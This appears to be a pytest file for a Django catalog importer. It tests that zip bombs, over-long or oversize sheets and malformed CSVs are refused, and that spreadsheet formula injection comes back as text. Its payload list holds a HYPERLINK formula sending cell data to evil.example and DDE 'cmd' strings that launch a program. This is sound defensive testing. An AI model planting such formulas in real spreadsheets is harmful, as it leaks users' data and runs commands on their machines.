"""Hostile catalog files: a zip bomb, too many rows (declared or not), an oversize upload, a malformed CSV.
Each is refused before it is parsed, with a message naming the limit, the same on the page, the API and the
command; nothing is written. And formula injection: imported text that a spreadsheet would run comes back as
text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from authority import importing
from authority.models import EnforcementItem, EnforcementItemVersion
from enforcement.models import AuditEvent
from enforcement.spreadsheets import MAX_ROWS, MAX_UPLOAD_BYTES, csv_cell, csv_text_in
from tests.hostile_files import csv_rows, xlsx_bomb, xlsx_rows

from .conftest import COLUMNS, ROWS, csv_bytes, import_rows

pytestmark = pytest.mark.django_db


@pytest.fixture
def parser_spy(monkeypatch) -> list[str]:
    """Records every call of the XLSX parser and of the row checks: a refusal must come before both."""
    calls: list[str] = []
    real_load = openpyxl.load_workbook

    def load(*args, **kwargs):
        calls.append("load_workbook")
        return real_load(*args, **kwargs)

    real_check = importing.check_rows

    def check(*args, **kwargs):
        calls.append("check_rows")
        return real_check(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", load)
    monkeypatch.setattr(importing, "check_rows", check)
    return calls


def _state():
    return EnforcementItem.objects.count(), EnforcementItemVersion.objects.count(), AuditEvent.objects.count()


def _refused_everywhere(cast, client_for, data: bytes, name: str, words: str, figure: str, tmp_path) -> None:
    before = _state()
    page = client_for(cast.admin).post(
        reverse("authority-import") + "?lang=en", {"file": SimpleUploadedFile(name, data)}
    )
    assert page.status_code == 400 and words in page.content.decode(), page.content.decode()[-3000:]
    api = client_for(cast.admin).post(
        reverse("api-authority-import") + "?lang=en", {"file": SimpleUploadedFile(name, data)}
    )
    assert api.status_code == 400 and words in str(api.json()), api.content[:500]
    path = tmp_path / name
    path.write_bytes(data)
    stderr = io.StringIO()
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_authority", str(path), "--district", cast.district.code, stderr=stderr)
    assert (
        figure in stderr.getvalue()
    )  # the command speaks the site's language; the figure is the same in both
    assert _state() == before


def test_a_zip_bomb_is_refused_by_its_declared_size_without_being_parsed(
    cast, client_for, parser_spy, tmp_path
):
    bomb = xlsx_bomb(300, header=COLUMNS)
    assert len(bomb) < 1024 * 1024  # a small file ...
    _refused_everywhere(
        cast, client_for, bomb, "bomb.xlsx", "more than the 50 MB allowed", "50 MB", tmp_path
    )  # ... of 300 MB
    assert parser_spy == []


def test_a_sheet_declaring_too_many_rows_is_refused_before_parsing(cast, client_for, parser_spy, tmp_path):
    data = xlsx_rows(MAX_ROWS, COLUMNS)  # with its header: one row too many
    _refused_everywhere(cast, client_for, data, "long.xlsx", "more than 20,000 rows", "20,000", tmp_path)
    assert parser_spy == []


def test_a_sheet_hiding_its_rows_is_stopped_at_the_cap_while_streaming(
    cast, client_for, parser_spy, tmp_path
):
    data = xlsx_rows(MAX_ROWS, COLUMNS, lie_about_dimension=True)
    _refused_everywhere(cast, client_for, data, "liar.xlsx", "more than 20,000 rows", "20,000", tmp_path)
    assert "check_rows" not in parser_spy  # read up to the cap, never checked row by row


def test_a_too_long_csv_is_refused_before_its_rows_are_checked(cast, client_for, parser_spy, tmp_path):
    data = csv_rows(MAX_ROWS, ",".join(COLUMNS))
    _refused_everywhere(cast, client_for, data, "long.csv", "more than 20,000 rows", "20,000", tmp_path)
    assert parser_spy == []


def test_an_oversize_upload_is_refused_on_the_page_and_the_api(cast, client_for, parser_spy):
    data = csv_bytes(ROWS) + b"," * (MAX_UPLOAD_BYTES)  # 10 MB and then some
    before = _state()
    page = client_for(cast.admin).post(
        reverse("authority-import") + "?lang=en", {"file": SimpleUploadedFile("big.csv", data)}
    )
    assert page.status_code == 400 and "larger than 10 MB" in page.content.decode()
    api = client_for(cast.admin).post(
        reverse("api-authority-import") + "?lang=en", {"file": SimpleUploadedFile("big.csv", data)}
    )
    assert api.status_code == 400 and "larger than 10 MB" in str(api.json())
    assert parser_spy == [] and _state() == before


def test_a_malformed_csv_cell_is_a_clear_refusal(cast, client_for):
    data = (
        ",".join(COLUMNS) + '\nT-1,"' + "x" * 200_000 + '"\n'
    ).encode()  # beyond the csv module's cell limit
    response = client_for(cast.admin).post(
        reverse("api-authority-import") + "?lang=en", {"file": SimpleUploadedFile("bad.csv", data)}
    )
    assert response.status_code == 400 and "cannot be read" in str(response.json())


# --- formula injection --------------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already marked",
    "''@twice",
]


def test_the_mark_is_taken_off_exactly_as_it_was_put_on():
    for text in PAYLOADS + ["plain", "'plain", "", "500", "罚款"]:
        assert csv_text_in(csv_cell(text)) == text
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("plain") == "plain" and csv_cell("'=x") == "''=x"


STORED = PAYLOADS[
    :4
]  # the others lose their tab or mark on import (cells are trimmed; the mark is taken off)


def _hostile_rows() -> list[list[str]]:
    rows = [list(r) for r in ROWS]
    fields = [
        1,
        2,
        5,
        6,
        10,
        11,
    ]  # name_zh, name_en, legal_basis, description_zh, rule_broken, penalty_clause
    for n, payload in enumerate(STORED):
        rows[n][fields[n]] = payload
    return rows


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_come_back_as_text_and_round_trip_unchanged(cast, client_for, fmt):
    import_rows(cast.district.code, _hostile_rows())
    response = client_for(None).get(
        reverse("authority-export"), {"district": cast.district.code, "format": fmt}
    )
    assert response.status_code == 200
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
        for payload in STORED:
            assert "'" + payload in cells, payload  # marked as text
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        sheet_cells = [cell for row in sheet.iter_rows() for cell in row]
        for payload in STORED:
            found = [c for c in sheet_cells if c.value == payload]
            assert found and all(c.data_type == "s" for c in found), payload  # text, not a formula
        assert not [c for c in sheet_cells if c.data_type == "f"]
    before = (EnforcementItemVersion.objects.count(), AuditEvent.objects.count())
    upload = SimpleUploadedFile(f"export.{fmt}", response.content)
    again = client_for(cast.admin).post(
        reverse("api-authority-import"), {"file": upload, "effective": "2024-01-01"}
    )
    assert again.status_code == 200 and again.json()["changed"] == [] and again.json()["created"] == [], (
        again.content
    )
    assert EnforcementItemVersion.objects.count() == before[0]
